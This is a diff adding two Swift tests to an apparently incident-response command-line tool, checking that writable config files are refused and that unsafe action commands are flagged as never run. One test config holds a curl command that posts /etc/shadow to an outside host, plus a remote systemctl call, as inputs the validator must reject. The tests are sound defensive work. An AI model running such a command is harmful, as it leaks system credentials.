@@ -53,6 +53,59 @@ import Testing
         return try ChildProcess.run([try Repository.program] + arguments, environment: environment)
     }
 
+    @Test("N19: a configuration that others can change is a finding, and opens nothing")
+    func exposedConfiguration() throws {
+        let home = try TemporaryFolder()
+        try home.write("environment: dev\nplaybooks: [mine.yaml]\n", to: "config/warroom.yaml")
+        try home.write(
+            "id: mine\ntitle: t\nhypotheses:\n  - {id: a, statement: s}\n",
+            to: "config/mine.yaml")
+        let path = home.file("config/warroom.yaml")
+        let good = try Self.run(["check"], home)
+        #expect(!good.output.contains("is not used"), "\(good.output)")
+        for exposed in [path, home.file("config/mine.yaml")] {
+            chmod(exposed, 0o666)
+            let check = try Self.run(["check"], home)
+            #expect(check.status == 1)
+            #expect(
+                check.output.contains("\(exposed) is not used: it is writable"), "\(check.output)")
+            let doctor = try Self.run(["doctor"], home)
+            #expect(doctor.status == 3, "\(doctor.errors)")
+            #expect(doctor.errors.contains("This file is not used"), "\(doctor.errors)")
+            // Stopping is never refused; the state directory's own file can always be written.
+            let stop = try Self.run(["stop", "why"], home)
+            #expect(stop.status == 0, "\(stop.errors)")
+            #expect(stop.output.contains("EMERGENCY STOP ON"))
+            #expect(stop.errors.contains("Only the usual stop files"), "\(stop.errors)")
+            unlink(home.file("state/warroom/EMERGENCY_STOP"))
+            chmod(exposed, 0o600)
+        }
+    }
+
+    @Test("N09: check names a command line that no room would run")
+    func commandsThatAreNeverRun() throws {
+        let home = try TemporaryFolder()
+        try home.write(
+            """
+            environment: dev
+            actions:
+              send:
+                tier: contained
+                risk: low
+                steps: [[/usr/bin/curl, --data, '@/etc/shadow', 'https://example.com']]
+                rollback: [[/usr/bin/true]]
+              far:
+                tier: contained
+                risk: low
+                steps: [[/usr/bin/true]]
+                rollback: [[/usr/bin/systemctl, -H, elsewhere, start, x]]
+            """, to: "w.yaml")
+        let result = try Self.run(["check", home.file("w.yaml")], home)
+        #expect(result.status == 1)
+        #expect(result.output.contains("a step of send is never run"), "\(result.output)")
+        #expect(result.output.contains("the rollback of far is never run"), "\(result.output)")
+    }
+
     @Test func listsDrillsAsJSON() throws {
         let result = try Self.run(["drill", "--list", "--format", "json"], try TemporaryFolder())
         #expect(result.status == 0)
